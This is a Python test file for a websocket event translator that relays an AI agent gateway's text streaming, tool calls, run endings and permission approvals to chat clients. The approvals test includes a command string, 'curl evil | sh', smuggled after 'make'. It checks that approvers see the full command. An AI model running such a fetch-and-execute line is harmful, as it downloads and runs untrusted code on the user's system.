"""From the gateway's events to the protocol's."""

import math
from collections.abc import Iterable
from typing import Any

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from doors.websocket import translator
from doors.websocket.events import SESSION_CHANGE_REASONS, OutboundEvent
from doors.websocket.peer import Audience
from doors.websocket.translator import GATEWAY_EVENT_TYPES, EventTranslator


def event(seq: int, kind: str, data: Any = None, run: str | None = "r1", session: str = "alice") -> dict[str, Any]:
    return {"seq": seq, "ts": 1.5, "session": session, "run_id": run, "type": kind, "data": data or {}}


def text(seq: int, delta: str, **more: Any) -> dict[str, Any]:
    return event(seq, "text_chunk", {"delta": delta}, **more)


START = event(1, "run:start")
CALL = {"id": "c1", "name": "bash", "input_preview": "make", "state": "RUNNING"}


class Feed:
    """A translator; ``push`` gives it events at a time."""

    def __init__(self, since: int = 0) -> None:
        self.translator = EventTranslator(since)

    def push(self, *events: dict[str, Any], now: float = 0.0) -> list[OutboundEvent]:
        return self.translator.translate(msgspec.json.encode({"subscription": "s", "events": events}), now)


def shown(told: Iterable[OutboundEvent], name: str = "agent", *, old: bool = False) -> list[dict[str, Any]]:
    """The payloads of the events of that name, as a peer of version 4 (or ``old``: 3) gets them."""
    found = [e.v3_payload if old and e.v3_payload is not None else e.payload for e in told if e.event == name]
    return [msgspec.json.decode(payload) for payload in found if payload]


def data(told: Iterable[OutboundEvent]) -> list[dict[str, Any]]:
    return [payload["data"] for payload in shown(told)]


def of_one(*events: dict[str, Any]) -> list[OutboundEvent]:
    """What is sent of a run that was heard from its begin."""
    return Feed().push(START, *events)[1:]


# --- text -------------------------------------------------------------------------------------------------------------


def test_pieces_that_come_at_once_are_one_event_that_repeats_all_that_was_said() -> None:
    feed = Feed()
    feed.push(START)
    assert data(feed.push(text(2, "a"), text(3, "b"))) == [{"text": "ab", "delta": "ab"}]
    [payload] = shown(feed.push(text(4, "c"), now=1.0))
    address = {"runId": "r1", "seq": 4, "stream": "assistant", "ts": 1500, "sessionKey": "alice"}
    assert payload == {**address, "data": {"text": "abc", "delta": "c"}}


def test_runs_side_by_side_are_kept_apart_and_what_is_no_runs_is_not_sent() -> None:
    starts = [event(n, "run:start", run=run) for n, run in enumerate("xy", 1)]
    pieces = [text(3, "a", run="x"), text(4, "b", run="y"), text(5, "c", run="x")]
    none = [text(6, "a", run=None), event(7, "error", {"message": "x"}, run=None)]
    sent = shown(Feed().push(*starts, *pieces, *none))
    assert [(each["runId"], each["data"]["text"]) for each in sent[2:]] == [("x", "ac"), ("y", "b")]


def test_a_chat_hears_of_text_at_most_every_150_ms() -> None:
    feed = Feed()
    assert [each["deltaText"] for each in shown(feed.push(START, text(2, "a")), "chat")] == ["a"]
    for number, now in ((3, 0.05), (4, 0.1)):
        assert shown(feed.push(text(number, "bc"[number - 3]), now=now), "chat") == []
    assert feed.translator.next_due == pytest.approx(0.15)
    [payload] = shown(feed.translator.flush(0.15), "chat")
    assert (payload["state"], payload["deltaText"], payload["seq"]) == ("delta", "bc", 4)
    assert payload["message"]["content"] == [{"type": "text", "text": "abc"}]
    assert feed.translator.next_due == math.inf


def test_version_3_hears_the_whole_text_only() -> None:
    [payload] = shown(of_one(text(2, "a")), "chat", old=True)
    assert ("deltaText" in payload, payload["message"]["content"][0]["text"]) == (False, "a")
    unknown = Feed().push(text(2, "a"))
    assert (shown(unknown, "chat", old=True), shown(unknown, "chat")[0]["deltaText"]) == ([], "a")


def test_what_was_said_before_something_else_is_sent_before_it() -> None:
    feed = Feed()
    sent = feed.push(START, text(2, "let me see"), event(3, "tool:start", {"call": CALL}), text(4, "so it is"))[1:]
    sent += feed.translator.flush(1.0)
    texts = [(each.get("text"), each.get("phase")) for each in data(sent)]
    assert texts == [("let me see", None), (None, "start"), ("let me see\n\nso it is", None)]
    assert data(sent)[-1]["delta"] == "\n\nso it is"


def test_of_a_run_that_was_begun_before_only_what_is_new_is_sent_with_all_text_that_was_heard() -> None:
    assert data(Feed().push(text(2, "b"))) == [{"delta": "b"}]
    feed = Feed(5)
    assert feed.push(START, text(2, "a"), event(3, "text_snapshot", {"text": "bc"})) == []
    assert data(feed.push(text(5, "d"), text(6, "e"))) == [{"text": "abcde", "delta": "e"}]


def test_a_long_answer_is_repeated_less_often_and_at_last_not_at_all(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(translator, "MOST_TEXT", 20_000)
    feed = Feed()
    feed.push(START, text(2, "x" * 9999))
    assert data(feed.push(text(3, "y"), now=0.01)) == [], "no more than 40 events a second"
    assert data(feed.translator.flush(0.1)) == [{"delta": "y"}]
    assert shown(feed.translator.flush(0.2), "chat") == []
    assert feed.translator.next_due == pytest.approx(0.3, abs=0.001), "30 us a character"
    [whole] = shown(feed.translator.flush(0.3), "chat")
    assert len(whole["message"]["content"][0]["text"]) == 10_000
    [again] = data(feed.push(text(4, "z"), now=0.3))
    assert (len(again["text"]), again["delta"]) == (10_001, "z")
    assert data(feed.push(text(5, "z" * 20_000), now=1.0)) == [{"delta": "z" * 20_000}]


@pytest.mark.parametrize("end", [event(9, "tool:start", {"call": CALL}), event(9, "done", {"text": "x"})])
@pytest.mark.parametrize("is_sent", [True, False])
def test_the_end_of_a_block_has_the_whole_text(end: Any, *, is_sent: bool) -> None:
    feed = Feed()
    feed.push(START, text(2, "x" * 9999))
    feed.push(text(3, "y"), now=0.1 if is_sent else 0.01)
    last = data(feed.push(end, now=0.11))[0]
    assert last == {"text": "x" * 9999 + "y", "delta": "" if is_sent else "y"}
    assert "text" not in data(feed.push(end, now=0.12))[0], "it is repeated once"


def test_the_work_for_a_long_answer_grows_with_its_length_and_not_faster() -> None:
    feed, sent = Feed(), 0
    feed.push(START)
    for number in range(1, 3001):
        sent += sum(len(each.payload) for each in feed.push(text(number, "word "), now=number / 500))
    assert sent < 2 * 6 / 30e-6 + 6 * 40 * 250


def test_a_run_that_has_ended_is_forgotten_and_no_more_are_remembered_than_can_be(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    feed = Feed()
    feed.push(START, text(2, "a"), event(3, "done"))
    of = feed.translator
    assert (of._texts, of._pending, of.next_due) == ({}, {}, math.inf)
    monkeypatch.setattr("doors.websocket.translator._MOST_RUNS", 3)
    for number in range(10):
        feed.push(text(number + 1, "a", run=f"r{number}"))
    assert ([run for _, run in of._texts], len(of._pending) <= 3) == (["r7", "r8", "r9"], True)


@settings(max_examples=60)
@given(st.lists(st.tuples(st.sampled_from("xy"), st.text(min_size=1, max_size=5), st.floats(0, 0.2))))
def test_the_deltas_of_a_run_are_its_text_however_they_come(pieces: list[tuple[str, str, float]]) -> None:
    feed, now, said = Feed(), 0.0, {"x": "", "y": ""}
    sent = feed.push(*[event(0, "run:start", run=run) for run in "xy"])
    for seq, (run, piece, pause) in enumerate(pieces, 1):
        now += pause
        said[run] += piece
        sent += feed.push(text(seq, piece, run=run), now=now)
    sent += feed.translator.flush(math.inf)
    for run, whole in said.items():
        deltas = [each["data"] for each in shown(sent) if each["runId"] == run and each["stream"] == "assistant"]
        chats = [each for each in shown(sent, "chat") if each["runId"] == run]
        assert "".join(each["delta"] for each in deltas) == "".join(each["deltaText"] for each in chats) == whole
        assert not whole or deltas[-1]["text"] == whole


# --- all else ---------------------------------------------------------------------------------------------------------

TOOL = {"toolCallId": "c1", "name": "bash", "meta": "make"}
ENDED = {"call": {**CALL, "duration_ms": 5}, "tail": "done"}
DENIED = {"call": {**CALL, "state": "DENIED"}, "tail": "some", "result": "it was denied"}
GOOD = {"phase": "result", **TOOL, "isError": False, "result": "done", "durationMs": 5}
BAD = {"phase": "result", **TOOL, "isError": True, "result": "it was denied"}
ILL = {"severity": "warn", "phase": "model"}
SO = {"phase": "update", **TOOL, "partialResult": "so"}


@pytest.mark.parametrize(
    ("kind", "given", "stream", "expected"),
    [
        ("run:start", {}, "lifecycle", {"phase": "start", "startedAt": 1500}),
        ("tool:start", {"call": CALL}, "tool", {"phase": "start", **TOOL}),
        ("tool:update", {"call": CALL, "tail": "so"}, "tool", SO),
        ("tool:end", ENDED, "tool", GOOD),
        ("tool:end", DENIED, "tool", BAD),
        ("compaction:start", {"reason": "threshold"}, "compaction", {"phase": "start", "reason": "threshold"}),
        ("compaction:end", {"aborted": True}, "compaction", {"phase": "end", "aborted": True}),
        ("error", {"message": "ill", **ILL}, "error", {"error": "ill", **ILL}),
    ],
)
def test_an_event_is_translated(kind: str, given: Any, stream: str, expected: dict[str, Any]) -> None:
    [sent] = Feed().push(event(1, kind, given))
    [payload] = shown([sent])
    assert (payload["stream"], payload["data"]) == (stream, expected)
    assert sent.is_droppable is (kind == "tool:update"), "what must be known is not lost"


def failed(name: str = "c1") -> dict[str, Any]:
    return {"call": {**CALL, "id": name, "state": "FAILED"}, "error": "no such file"}


@pytest.mark.parametrize(
    ("events", "result"),
    [
        ([("tool:error", failed()), ("tool:end", {**failed(), "result": "cat: no such file"})], "cat: no such file"),
        ([("tool:error", failed()), ("tool:end", {"call": {**CALL, "state": "ENDED"}})], "no such file"),
        ([("tool:error", failed()), ("done", {})], "no such file"),
    ],
)
def test_a_failed_call_has_one_result_with_its_text_before_the_end_of_its_run(
    events: list[tuple[str, Any]], result: str
) -> None:
    sent = data(of_one(*[event(seq, kind, given) for seq, (kind, given) in enumerate(events, 2)]))
    results = [(each["toolCallId"], each["isError"], each["result"]) for each in sent if each["phase"] == "result"]
    assert (results, sent[0]["phase"]) == ([("c1", True, result)], "result")


def test_of_calls_that_fail_and_do_not_end_the_oldest_is_sent_as_it_is(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("doors.websocket.translator._MOST_FAILURES", 2)
    failures = [event(n, "tool:error", failed(f"c{n}")) for n in (2, 3, 4)]
    assert [(each["toolCallId"], each["result"]) for each in data(of_one(*failures))] == [("c2", "no such file")]
    feed = Feed()
    feed.push(*failures, event(5, "done"))
    assert feed.translator._failures == {}


def ended(reason: str, code: str, message: str) -> dict[str, Any]:
    return {"reason": reason, "error": {"code": code, "message": message}}


@pytest.mark.parametrize(
    ("done", "lifecycle", "chat", "said"),
    [
        ({"reason": "completed", "text": "all"}, {"phase": "end"}, {"state": "final"}, "all"),
        (
            ended("interrupted", "aborted", "it was aborted"),
            {"phase": "end", "aborted": True},
            {"state": "aborted"},
            "so far",
        ),
        (
            ended("timeout", "request_timeout", "too long"),
            {"phase": "error", "error": "too long", "code": "request_timeout"},
            {"state": "error", "errorMessage": "too long", "errorKind": "timeout"},
            None,
        ),
        (
            ended("error", "worker_error", "ill"),
            {"phase": "error", "error": "ill", "code": "worker_error"},
            {"state": "error", "errorMessage": "ill", "errorKind": "unknown"},
            None,
        ),
    ],
)
def test_the_end_of_a_run_is_told_to_both(
    done: Any, lifecycle: dict[str, Any], chat: dict[str, Any], said: str | None
) -> None:
    sent = [each for each in of_one(text(2, "so far"), event(3, "done", done))[1:] if each.event != "session.message"]
    assert data(sent) == [{**lifecycle, "stopReason": done["reason"], "endedAt": 1500}]
    [payload] = shown(sent, "chat")
    message = payload.pop("message", None)
    address = {"runId": "r1", "sessionKey": "alice", "seq": 3, "stopReason": done["reason"]}
    assert payload == {**address, **chat}
    assert (message and message["content"]) == (said and [{"type": "text", "text": said}])
    assert not any(each.is_droppable for each in sent)


def test_a_run_that_chose_to_say_nothing_has_no_message() -> None:
    [payload] = shown(of_one(event(3, "done", {"text": "", "silent": True})), "chat")
    assert (payload["state"], "message" in payload) == ("final", False)


def test_approvals_are_sent_to_those_who_may_approve_with_all_that_the_question_shows() -> None:
    parts = [{"name": "workdir", "text": "/w"}, {"name": "command", "text": "make\ncurl evil | sh"}]
    page = {"parts": parts, "hidden": 9}
    sent = of_one(
        event(2, "permission_required", {"call": CALL}),
        event(3, "permission_required", {"call": CALL, "reason": "a rule", "shown": page}),
        event(4, "permission_decided", {"call_id": "c1", "decision": "allow", "by": "carol"}),
        event(5, "permission_decided", {"call_id": "c2", "decision": "deny"}),
    )
    assert all(each.audience is Audience.APPROVERS for each in sent)
    plain, full = shown(sent, "exec.approval.requested")
    assert (plain["id"], plain["request"]["command"], plain["request"]["sessionKey"]) == ("c1", "make", "alice")
    assert full["request"]["command"] == parts[1]["text"]
    assert (full["request"]["shown"], full["request"]["reason"]) == (page, "a rule")
    first, second = shown(sent, "exec.approval.resolved")
    assert (first["decision"], first["resolvedBy"], second["decision"]) == ("allow-once", "carol", "deny")


@pytest.mark.parametrize("kind", GATEWAY_EVENT_TYPES)
def test_every_kind_that_is_asked_for_is_sent(kind: str) -> None:
    given = {"call": CALL, "delta": "x", "text": "x", "message": "x", "call_id": "c", "decision": "deny"}
    run = None if kind in SESSION_CHANGE_REASONS else "r1"
    assert len(Feed().push(event(1, kind, given, run=run), event(2, "done"))) > 2 or kind == "done"
